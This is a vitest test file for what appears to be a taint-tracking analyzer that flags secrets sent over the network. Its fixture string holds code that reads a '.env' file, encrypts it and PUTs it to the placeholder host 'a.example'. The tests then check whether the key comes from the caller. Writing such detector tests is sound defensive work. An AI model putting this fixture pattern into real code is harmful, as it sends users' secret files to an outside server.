import { describe, expect, it } from 'vitest';
import { follow } from '../sample.js';

function sealedFor(key: string, parameters = 'key'): boolean {
  const code = `const c = require('crypto'); const fs = require('fs'); const { pack } = require('./own');
exports.put = (${parameters}) => { const cipher = c.createCipheriv('aes-256-gcm', ${key}, c.randomBytes(12)); fetch('https://a.example', { method: 'PUT', body: Buffer.concat([cipher.update(fs.readFileSync('.env')), cipher.final()]) }); };`;
  const sent = follow({ 'index.js': code, 'own.js': 'exports.pack = null;' }).observations.find(
    ({ sink, taints }) => sink === 'net.out' && taints.some(({ source }) => source === 'secret.file'),
  );
  return (
    sent?.taints.some(({ source, through }) => source === 'secret.file' && through.includes('callers-key')) ?? false
  );
}

describe('what is enciphered with the key of a caller', () => {
  it.each([
    'key',
    "Buffer.from(key, 'hex')",
    'c.scryptSync(key, c.randomBytes(16), 32)',
    "c.createHash('sha256').update(key).digest()",
  ])('is for the caller: %s', (key) => expect(sealedFor(key)).toBe(true));

  it.each([
    ["'0123456789abcdef0123456789abcdef'", 'key'],
    ['key', "key = '0123456789abcdef0123456789abcdef'"],
    ['process.env.KEY || key', 'key'],
    ['c.randomBytes(32)', 'key'],
  ])('is not: %s of %s', (key, parameters) => expect(sealedFor(key, parameters)).toBe(false));
});
